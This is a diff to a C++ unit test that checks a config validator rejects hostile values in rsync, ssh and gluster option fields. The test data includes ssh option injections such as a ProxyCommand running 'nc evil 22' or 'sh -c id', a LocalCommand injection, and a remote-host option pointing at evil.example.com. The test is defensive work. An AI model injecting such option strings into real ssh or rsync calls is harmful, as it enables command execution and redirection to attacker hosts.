@@ -150,9 +150,15 @@ TEST(ConfigKeys, FreeTextRefusesHostileStrings) {
       std::string(" leading"), std::string("trailing ")};
   for (const auto& v : hostile) {
     expectInvalid("gluster_params", v);
+    if (v.substr(0, 2) == "--") continue;  // option lists may start with "--" (below)
     expectInvalid("rsync_options", v);
     expectInvalid("ssh_options", v);
   }
+  // rsync/ssh option lists are options themselves; the argv builder ends the CLI's options with "--".
+  expectValid("rsync_options", "--bwlimit=1000");
+  expectInvalid("allow_network", "--remote-host=evil.example.com");
+  expectInvalid("gluster_cli_options", "--remote-host=evil.example.com");
+  expectInvalid("special_sync_mode", "--xml");
   expectInvalid("ssh_options", "-oProxyCommand=nc evil 22");
   expectInvalid("ssh_options", "-o proxycommand=sh -c id");
   expectInvalid("ssh_options_tar", "-oLocalCommand=id -oPermitLocalCommand=yes");
